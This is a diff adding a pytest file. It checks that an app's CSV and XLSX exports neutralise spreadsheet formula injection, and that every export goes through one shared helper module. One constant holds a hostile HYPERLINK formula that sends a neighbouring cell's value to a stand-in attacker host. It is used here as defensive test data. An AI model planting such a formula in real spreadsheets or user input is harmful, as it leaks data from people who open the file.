@@ -1,0 +1,58 @@
+"""No CSV or XLSX either app writes can run a formula (OWASP CSV injection): a text that starts
+with =, +, -, @, a tab or a carriage return gets an apostrophe in CSV and stays a string in XLSX.
+
+Tested per export, with a hostile value stored where each export reads it, and one guard that
+every CSV and XLSX in the apps is written through ``shared.spreadsheets``.
+"""
+
+from __future__ import annotations
+
+import ast
+import csv
+import io
+from pathlib import Path
+
+import pytest
+from openpyxl import Workbook, load_workbook
+
+from shared.spreadsheets import FORMULA_STARTS, csv_writer, safe_text, xlsx_bytes
+
+ROOT = Path(__file__).resolve().parents[1]
+HOSTILE = '=HYPERLINK("http://evil.example/?"&B9,"Xem")'
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+def test_every_formula_start_is_neutralised(start):
+    text = f"{start}SUM(A1:A9)"
+    out = io.StringIO()
+
+    csv_writer(out).writerow([text, 12, None, "Thôn Đông"])
+
+    assert next(csv.reader(io.StringIO(out.getvalue()))) == [f"'{text}", "12", "", "Thôn Đông"]
+    assert safe_text(-5) == -5
+
+
+def test_xlsx_keeps_formula_text_as_a_string():
+    book = Workbook()
+    book.active["A1"] = HOSTILE
+    book.active["A2"] = 7
+
+    cells = load_workbook(io.BytesIO(xlsx_bytes(book))).active
+
+    assert (cells["A1"].value, cells["A1"].data_type) == (HOSTILE, "s")
+    assert (cells["A2"].value, cells["A2"].data_type) == (7, "n")
+
+
+def test_the_apps_write_csv_and_xlsx_only_through_shared_spreadsheets():
+    offenders = []
+    for path in sorted([*ROOT.glob("node/**/*.py"), *ROOT.glob("hub/**/*.py")]):
+        tree = ast.parse(path.read_text(encoding="utf-8"))
+        for item in ast.walk(tree):
+            if not isinstance(item, ast.Attribute):
+                continue
+            if item.attr in ("writer", "DictWriter") and getattr(item.value, "id", "") == "csv":
+                offenders.append(f"{path.relative_to(ROOT)}:{item.lineno} csv.{item.attr}")
+            if item.attr == "save" and "book" in ast.unparse(item.value).lower():
+                offenders.append(f"{path.relative_to(ROOT)}:{item.lineno} {ast.unparse(item)}")
+
+    assert offenders == []
